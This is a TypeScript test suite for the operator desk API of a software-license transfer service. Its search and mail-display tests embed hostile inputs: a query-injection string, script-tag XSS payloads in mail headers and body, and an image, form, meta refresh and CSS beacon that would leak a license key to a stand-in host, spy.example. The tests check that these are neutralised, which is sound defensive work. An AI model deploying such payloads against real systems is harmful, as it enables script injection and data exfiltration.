import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DeskCase, DeskMessage } from '../../src/contract/desk-case.ts';
import {
  BookLicenseDetail,
  DecisionsAnswer,
  DeskMail,
  DeskMailPage,
  DeskSettings,
  Overview,
  QueuePage,
  SearchResult,
} from '../../src/contract/desk.ts';
import { historyKinds } from '../../src/desk/casework/one/history.ts';
import { openHttp, problemIn, requestFor } from './support.ts';

const { app, call, clock, desk, market } = await openHttp();
const other = await app.tokens.add('joe', 'desk');
type Case = { transferId: string; status: string; sen: string | null; licenseId: string };

let calls = 0;
const post = (path: string, body: object, token: string | undefined = desk) => {
  calls += 1;
  return call(path, body, { token, key: `operators-${calls}` });
};
const get = async (path: string, token = desk): Promise<unknown> => {
  const response = await call(path, undefined, { token });
  assert.equal(response.status, 200, `${path}: ${await response.clone().text()}`);
  return response.json();
};

/** A case that waits for its holder. */
async function opened(licenseKey: string, more: object = {}): Promise<Case> {
  const response = await post('/v1/requests', requestFor(licenseKey, more));
  assert.equal(response.status, 201, await response.clone().text());
  const { transfers } = (await response.json()) as { transfers: Case[] };
  return transfers[0] as Case;
}
const caseOf = async (id: string, token = desk) => DeskCase.parse(await get(`/v1/desk/transfers/${id}`, token));
const queue = async (query = '') => QueuePage.parse(await get(`/v1/desk/queue${query}`));
const find = async (text: string) => {
  const response = await call('/v1/desk/search', { text }, { token: desk });
  assert.equal(response.status, 200, await response.clone().text());
  return SearchResult.parse(await response.json());
};

const garnier = { key: 'WFC-RYPK-C39A-G5FV-7E7P', holder: 'garnier@aubepine-medical.example' };
const nesse = { key: 'WFC-5HV3-73VZ-CHV3-2FDW', holder: 'kari.nesse@fjellheim.example' };
const approved = { reason: 'The holder called from the number on the invoice.', evidence: 'call note 4711' };

test('the desk is for operators alone: no session, a shop’s token and a wrong one are each refused', async () => {
  const nobody = '00000000-0000-4000-8000-000000000000';
  const gets = [
    'queue',
    'overview?from=2026-01-01&to=2026-01-31',
    `transfers/${nobody}`,
    `messages/${nobody}`,
    `messages/${nobody}/raw`,
    'mails',
    `mails/${nobody}`,
    'settings',
    `licenses/${nobody}`,
  ];
  for (const path of gets) {
    assert.deepEqual(await problemIn(await call(`/v1/desk/${path}`)), [401, 'UNAUTHENTICATED'], path);
    assert.deepEqual(await problemIn(await call(`/v1/desk/${path}`, undefined, { token: market })), [403, 'FORBIDDEN']);
  }
  const posts = [
    'search',
    'decisions',
    `transfers/${nobody}/ask`,
    `transfers/${nobody}/correct`,
    `transfers/${nobody}/assign`,
    `transfers/${nobody}/note`,
    `mails/${nobody}/send`,
  ];
  for (const path of posts)
    assert.deepEqual(await problemIn(await call(`/v1/desk/${path}`, {}, { key: 'x' })), [401, 'UNAUTHENTICATED'], path);
});

test('a case is in the queue under whoever must act, and its page shows what to decide it by', async () => {
  const { transferId } = await opened(garnier.key);
  const { cases, counts } = await queue('?turn=holder');
  assert.ok(cases.some((one) => one.transferId === transferId));
  assert.ok(cases.every(({ turn }) => turn === 'holder'));
  assert.equal(counts?.holder, cases.length);
  const page = await caseOf(transferId);
  assert.equal(page.line.app, 'com.sketchwell.wireframes.confluence');
  assert.equal(page.license?.holderEmail, garnier.holder);
  const organization = page.facts.find(({ name }) => name === 'organization');
  assert.deepEqual(
    [organization?.value, organization?.sources],
    ['Example Buyer', [{ kind: 'field', pointer: '/organization' }]],
  );
  assert.equal(organization?.from?.byOperator, false);
  assert.deepEqual(page.facts.find(({ name }) => name === 'licenseKeys')?.value, [`…${garnier.key.slice(-4)}`]);
  assert.ok(page.findings.some(({ code, decides }) => code === 'PROOF_MISSING' && decides));
  assert.deepEqual(
    page.conversation.map(({ direction }) => direction),
    ['in', 'out', 'out'],
  );
  const may = Object.fromEntries(page.actions.map(({ action, allowed }) => [action, allowed]));
  assert.deepEqual(may, {
    approve: true,
    refuse: true,
    withdraw: true,
    undo: false,
    ask: true,
    correct: true,
    assign: true,
    note: true,
  });
  assert.ok(page.actions.every(({ allowed, why }) => allowed === (why === null)));
  assert.ok(page.history.length > 2 && page.history.every(({ kind }) => historyKinds.includes(kind)));
  assert.ok(!JSON.stringify(page).includes(garnier.key));
});

test('a case says what an approval leads to, and that is what comes of it', async () => {
  const approve = async (accountEmail: string) => {
    const { transferId } = await opened('WFC-3V5F-2VL5-9XDP-LFB2', { hostUsers: 100, accountEmail });
    const { leadsTo } = (await caseOf(transferId)).actions.find(({ action }) => action === 'approve') ?? {};
    await post(`/v1/transfers/${transferId}/approve`, approved);
    return { transferId, leadsTo, status: (await caseOf(transferId)).line.status };
  };
  const buyer = await approve('it@kornblume-software.example');
  assert.deepEqual([buyer.leadsTo, buyer.status], [{ status: 'cooling-down', limit_s: 72 * 3600 }, 'cooling-down']);
  await post(`/v1/transfers/${buyer.transferId}/withdraw`, approved);
  const own = await approve('llindner@kornblume-software.example');
  assert.deepEqual(own.leadsTo, { status: 'eligible', limit_s: 0 });
  assert.notEqual(own.status, 'cooling-down');
});

test('a search finds a case by key, id, SEN, address and beginnings of words, and the key is never told', async () => {
  const { transferId } = await opened(nesse.key, {
    accountEmail: nesse.holder,
    organization: 'Fjellheim Überseehandel',
  });
  await post(`/v1/transfers/${transferId}/approve`, approved);
  const page = await caseOf(transferId);
  const first = async (text: string) => {
    const result = await find(text);
    assert.ok(!JSON.stringify(result).includes(nesse.key));
    return [result.cases[0]?.transferId, result.cases[0]?.matchedBy];
  };
  assert.deepEqual(await first(` ${nesse.key} `), [transferId, 'license-key']);
  assert.deepEqual(await first(transferId), [transferId, 'id']);
  assert.deepEqual(await first(page.line.sen ?? ''), [transferId, 'sen']);
  assert.deepEqual(await first(nesse.holder), [transferId, 'address']);
  assert.deepEqual(await first('übersee fjell'), [transferId, 'words']);
  assert.equal((await find('kari nesse')).licenses[0]?.holderEmail, nesse.holder);
  assert.deepEqual((await find("' & | ! :* \\ ' or true --")).cases, []);
});

test('a question goes out in the operator’s words, and the answer brings the case on', async () => {
  const { transferId } = await opened('WFC-UU86-X457-H66A-DD3A');
  const text = 'Which of your two Confluence servers is it?\nPlease look at <b>Administration</b>.';
  assert.equal((await post(`/v1/desk/transfers/${transferId}/ask`, { text, facts: ['hostUsers'] })).status, 200);
  const page = await caseOf(transferId);
  assert.deepEqual([page.line.turn, page.question?.operator], ['requester', 'jane']);
  const sent = page.conversation.findLast((one) => one.direction === 'out');
  assert.equal(sent?.direction === 'out' && sent.kind, 'question');
  const mail = DeskMail.parse(await get(`/v1/desk/mails/${sent?.direction === 'out' ? sent.mailId : ''}`));
  assert.match(mail.text, /Which of your two Confluence servers is it\?/u);
  assert.ok(mail.html.includes('&lt;b&gt;Administration&lt;/b&gt;'));
  assert.ok(page.actions.some(({ action, allowed }) => action === 'approve' && allowed));
});

test('a correction is an operator’s word in the conversation: it wins, is told with its reason, and proof falls', async () => {
  const { transferId } = await opened('WFC-V9ZV-3DWF-XG3F-T3D2');
  const correct = (facts: object, reason = 'They said so on the phone.') =>
    post(`/v1/desk/transfers/${transferId}/correct`, { facts, reason });
  assert.equal((await correct({ organization: 'Blue Mesa Books', address: { city: 'Potsdam' } })).status, 200);
  const page = await caseOf(transferId);
  assert.equal(page.transfer.account?.organization, 'Blue Mesa Books');
  assert.deepEqual(
    [page.transfer.account?.address.city, page.transfer.account?.address.postalCode],
    ['Potsdam', '10115'],
  );
  const fact = page.facts.find(({ name }) => name === 'organization');
  assert.deepEqual(
    [fact?.value, fact?.from?.byOperator, fact?.from?.sender],
    ['Blue Mesa Books', true, 'operator:jane'],
  );
  const row = page.history.find(({ kind }) => kind === 'FactsCorrected');
  assert.deepEqual([row?.actor, row?.data['reason']], ['operator:jane', 'They said so on the phone.']);
  assert.ok(page.conversation.some((one) => one.direction === 'in' && one.byOperator && one.taken));
  assert.deepEqual(await problemIn(await correct({ organization: 'Blue Mesa Books' })), [409, 'COMMAND_NOT_ALLOWED']);
  assert.deepEqual(await problemIn(await correct({ organization: 'Other' }, 'x')), [400, 'REASON_MISSING']);
});

test('a case is taken, handed on with a note, and found under whoever has it', async () => {
  const { transferId } = await opened('WFC-4VVL-MJ4V-FJAQ-FQ2K');
  await post(`/v1/desk/transfers/${transferId}/assign`, { to: 'jane' });
  await post(`/v1/desk/transfers/${transferId}/note`, { text: 'Called, nobody there.' });
  await post(`/v1/desk/transfers/${transferId}/assign`, { to: 'joe', reason: 'On leave from tomorrow' });
  assert.deepEqual(
    (await queue('?assignee=joe')).cases.map((one) => one.transferId),
    [transferId],
  );
  assert.deepEqual((await queue('?assignee=jane')).cases, []);
  const { history } = await caseOf(transferId);
  assert.deepEqual(
    history.slice(-3).map(({ kind, said }) => [kind, said.who, said.why]),
    [
      ['Assigned', 'jane', null],
      ['NoteMade', null, 'Called, nobody there.'],
      ['Assigned', 'joe', 'On leave from tomorrow'],
    ],
  );
});

test('many at once: each by itself, answered in order; two operators where the policy says so', async () => {
  const one = await opened('WFC-22GA-9JLL-VEPT-Y9NL');
  const two = await opened('WFC-PUAE-7FKN-87A3-SWR3');
  const nobody = '00000000-0000-4000-8000-000000000000';
  const body = { action: 'approve', transferIds: [one.transferId, nobody, two.transferId], ...approved };
  const answer = DecisionsAnswer.parse(await (await post('/v1/desk/decisions', body)).json());
  assert.deepEqual([answer.done, answer.refused, answer.results[1]?.code], [2, 1, 'TRANSFER_NOT_FOUND']);
  assert.deepEqual(
    answer.results.map((result) => result.transferId),
    body.transferIds,
  );
  const again = DecisionsAnswer.parse(await (await post('/v1/desk/decisions', body)).json());
  assert.equal(again.results[0]?.code, 'SAME_OPERATOR');
  const second = DecisionsAnswer.parse(await (await post('/v1/desk/decisions', body, other)).json());
  assert.equal(second.results[0]?.ok, true);
  const long = { ...body, transferIds: Array.from({ length: 201 }, () => one.transferId) };
  assert.deepEqual(await problemIn(await post('/v1/desk/decisions', long)), [400, 'BODY_INVALID']);
});

test('outgoing mail is listed by filter, shown without its link’s token, and one that was kept goes out again', async () => {
  const { mails } = DeskMailPage.parse(await get(`/v1/desk/mails?to=${garnier.holder}&kind=holder-confirmation`));
  const [mail] = mails;
  assert.deepEqual([mails.length, mail?.status, mail?.maySendAgain], [1, 'kept', true]);
  const shown = DeskMail.parse(await get(`/v1/desk/mails/${mail?.mailId ?? ''}`));
  assert.match(shown.text, /\/confirm\/hidden/u);
  assert.equal((await post(`/v1/desk/mails/${mail?.mailId ?? ''}/send`, {})).status, 200);
  const page = DeskMailPage.parse(await get('/v1/desk/mails?limit=2'));
  assert.equal(page.mails.length, 2);
  assert.ok(page.next);
  const listed = async (when: string) => DeskMailPage.parse(await get(`/v1/desk/mails?when=${when}&limit=100`)).mails;
  assert.ok((await listed('now')).some(({ mailId }) => mailId === mail?.mailId));
  assert.ok((await listed('planned')).every(({ mailId }) => mailId !== mail?.mailId));
});

test('settings are shown as they are in force, and no secret among them', async () => {
  process.env['SMTP_URL'] = 'smtp://user:hush-hush@mail.example:587';
  process.env['REHOME_SECRET'] = 'a very secret secret';
  const text = JSON.stringify(await get('/v1/desk/settings'));
  delete process.env['SMTP_URL'];
  delete process.env['REHOME_SECRET'];
  const { environment, profile } = DeskSettings.parse(JSON.parse(text));
  assert.ok(!text.includes('hush-hush') && !text.includes('a very secret secret'));
  const smtp = environment.find(({ name }) => name === 'SMTP_URL');
  assert.deepEqual([smtp?.value, smtp?.from], ['smtp://user:****@mail.example:587', 'environment']);
  assert.equal((profile['vendor'] as { name: string }).name, app.profile.vendor.name);
});

test('the overview counts what moved and was refused, how long it took and what is quoted', async () => {
  const day = new Date(Date.now() + clock.ahead_ms).toISOString().slice(0, 10);
  const overview = Overview.parse(await get(`/v1/desk/overview?from=${day}&to=${day}&by=week`));
  assert.ok(overview.totals.opened >= 7);
  assert.equal(overview.totals.moved, (await queue('?status=confirmed')).cases.length);
  assert.equal(overview.series.length, 1);
  assert.ok(overview.steps.some(({ status, left }) => status === 'waiting-for-holder' && left >= 3));
  const { counts } = await queue();
  assert.deepEqual(overview.waiting, counts);
  const path = '/v1/desk/overview?from=2026-02-01&to=2026-01-01';
  assert.deepEqual(await problemIn(await call(path, undefined, { token: desk })), [400, 'QUERY_INVALID']);
});

test('a license of the books is shown with its cases', async () => {
  const { licenses } = await find(garnier.key);
  const license = BookLicenseDetail.parse(await get(`/v1/desk/licenses/${licenses[0]?.licenseId ?? ''}`));
  assert.equal(license.cases.length, 1);
  assert.equal(license.holderEmail, garnier.holder);
});

test('a form is shown laid out, its key masked; the raw one is a file', async () => {
  const { cases } = await find(garnier.key);
  const page = await caseOf(cases[0]?.transferId ?? '');
  const [said] = page.conversation;
  const id = said?.direction === 'in' ? said.inboxId : '';
  const message = DeskMessage.parse(await get(`/v1/desk/messages/${id}`));
  assert.match(message.text ?? '', /"organization": "Example Buyer"/u);
  assert.ok(!JSON.stringify(message).includes(garnier.key));
  const raw = await call(`/v1/desk/messages/${id}/raw`, undefined, { token: desk });
  assert.match(raw.headers.get('content-disposition') ?? '', /^attachment; filename="[0-9a-f-]+\.json"$/u);
});

test('script in every field and header of a mail comes out as text, and its key and pictures not at all', async () => {
  const key = 'WFC-HGR4-5LCN-6LYD-3SD8';
  const bad = '<script>alert(1)</script>';
  const mail = [
    `From: "${bad}" <mallory@else.example>`,
    `To: ${bad} <licenses@sketchwell.example>`,
    `Subject: ${bad} ${key}`,
    `Message-ID: <x${bad.replaceAll(/[^a-z]/gu, '')}@else.example>`,
    `X-Mailer: ${bad}`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<p>Please move our license of Wireframes for Confluence. It is in use on our own Server. We agree to match the users.</p>
     <p>License key: ${key}</p><p>Organization: ${bad.replaceAll('<', '&lt;')}</p><p>Marketplace account: mallory@else.example</p>
     <img src="https://spy.example/${key}.gif"><form action="https://spy.example"><input></form>${bad}
     <meta http-equiv=refresh content="0;url=https://spy.example"><p style="background:url(https://spy.example)">x</p>`,
  ].join('\r\n');
  const received = await call('/v1/messages', mail, { token: desk, type: 'message/rfc822', key: 'hostile-mail' });
  assert.ok(received.ok, await received.clone().text());
  const { reference } = (await received.json()) as { reference: string };
  const message = DeskMessage.parse(await get(`/v1/desk/messages/${reference}`));
  assert.ok(message.headers.some(([name, value]) => name === 'Subject' && value.includes(bad)));
  assert.doesNotMatch(message.html ?? '', /<script|<img|<form|<meta|style=|spy\.example/u);
  assert.ok(message.leftOut.images === 1 && message.leftOut.other >= 2);
  assert.ok(!JSON.stringify(message).includes(key));
  const response = await call(`/v1/desk/messages/${reference}/raw`, undefined, {
    token: desk,
  });
  assert.match(response.headers.get('content-disposition') ?? '', /^attachment;/u);
  assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
});
